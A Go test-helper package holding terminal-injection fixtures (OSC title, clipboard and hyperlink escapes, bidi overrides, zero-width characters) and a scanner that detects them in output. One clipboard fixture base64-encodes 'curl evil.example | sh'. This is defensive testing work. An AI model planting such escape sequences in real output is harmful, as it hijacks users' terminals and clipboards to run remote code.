// Package hostile holds names crafted to attack a terminal or a document, and
// a scanner that finds anything of them that got through. Tests of every
// output path share them, so a new path is one more line in a table.
package hostile

import (
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/ringfence/ringfence/checklist/safetext"
)

// Names is the hostile set: each would change the terminal, the clipboard or
// the way text reads if it were written out as it is.
var Names = []string{
	"Title \x1b]0;pwned-title\x07Smith",                         // OSC 0: window title, BEL-terminated
	"Title2 \x1b]2;pwned-title\x1b\\Jones",                      // OSC 2: window title, ST-terminated
	"Clip \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",       // OSC 52: write the clipboard
	"\x1b]8;;https://evil.example/\x1b\\Click me\x1b]8;;\x1b\\", // OSC 8: a disguised link
	"Clear \x1b[2J\x1b[H Screen",                                // CSI: clear the screen, cursor home
	"Colour \x1b[5;35;41mLOUD\x1b[0m",                           // SGR colours from data
	"C1 \u009b2J csi",                                           // C1 CSI as a character
	"Raw \x9b31m byte",                                          // C1 CSI as a lone byte (not UTF-8)
	"Bell \a\a\a ringing",                                       // BEL
	"Nul \x00 and DEL \x7f",                                     // NUL and DEL
	"Line\nbreak\rcarriage",                                     // a line break that fakes a new line of output
	"Mallory \u202egnp.exe",                                     // right-to-left override
	"Eve \u2066isolate\u2069 \u202aembed\u202c",                 // bidi isolates and embeddings
	"Ad\u200dmin\u200b \ufeffzero\u2060width",                   // zero-width joiner, space, BOM, word joiner
	"Para\u2028graph\u2029sep",                                  // line and paragraph separators
	"Long " + strings.Repeat("x", 5000) + "\x1b]2;late\x07",     // a very long line hiding a title change at the end
}

// Safe is legitimate text that must come out exactly as it went in.
var Safe = []string{
	"Zoë Ward", "Siobhán Ní Bhriain", "Łukasz Wójcik", "Declan Ó'Brien",
	"王小明", "محمد العلي", "Ana-María O’Neill", "Émile Dubois",
}

// Find returns a description of the first character in out that should never
// have been written, or "" if there is none. With sgr set, "ESC [ … m" colour
// sequences are allowed, but only with the parameters the app's own styles use
// (bold, faint, italic, underline, reverse, the four colours and resets), so
// colours smuggled in with data still count.
func Find(out string, sgr bool) string {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			return at(out, i, fmt.Sprintf("byte 0x%02X that is not UTF-8", out[i]))
		case r == 0x1b && sgr:
			n, ok := ownSGR(out[i:])
			if !ok {
				return at(out, i, "an escape sequence")
			}
			i += n
			continue
		case r == '\n' || r == '\t':
		case safetext.Unsafe(r):
			return at(out, i, fmt.Sprintf("U+%04X", r))
		}
		i += size
	}
	return ""
}

// ownSGR reports the length of an SGR sequence at the start of s and whether
// it uses only the parameters the app's styles produce.
func ownSGR(s string) (int, bool) {
	if !strings.HasPrefix(s, "\x1b[") {
		return 0, false
	}
	end := strings.IndexByte(s, 'm')
	if end < 0 {
		return 0, false
	}
	params := s[2:end]
	for _, p := range strings.FieldsFunc(params, func(r rune) bool { return r == ';' || r == ':' }) {
		switch p {
		case "0", "1", "2", "3", "4", "7", "22", "23", "24", "27", "31", "32", "33", "36", "39":
		default:
			return 0, false
		}
	}
	if strings.Trim(params, "0123456789;:") != "" {
		return 0, false
	}
	return end + 1, true
}

func at(out string, i int, what string) string {
	from, to := max(i-30, 0), min(i+30, len(out))
	return fmt.Sprintf("%s at byte %d: %q", what, i, out[from:to])
}
